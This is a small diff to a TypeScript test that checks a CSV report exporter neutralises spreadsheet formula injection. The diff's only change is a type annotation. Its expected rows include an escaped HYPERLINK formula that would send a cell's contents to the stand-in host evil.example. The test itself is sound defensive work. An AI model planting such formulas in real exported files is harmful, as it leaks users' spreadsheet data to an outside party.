@@ -79,7 +79,7 @@ describe('report CSV against formula injection', () => {
       ["'já citado", 1, 0],
     ];
     const bytes = await bytesOf(renderCsv(textColumns, pagesOf(hostile), 'excel'));
-    const records = parse<string[]>(bytes, { delimiter: ';', bom: true });
+    const records: string[][] = parse(bytes, { delimiter: ';', bom: true });
     expect(records.slice(1)).toEqual([
       ['\'=HYPERLINK("http://evil.example/?"&A1;"Clique")', '-12,34', '-2'],
       ["'+55 11 98765-4321", '1,00', '1'],
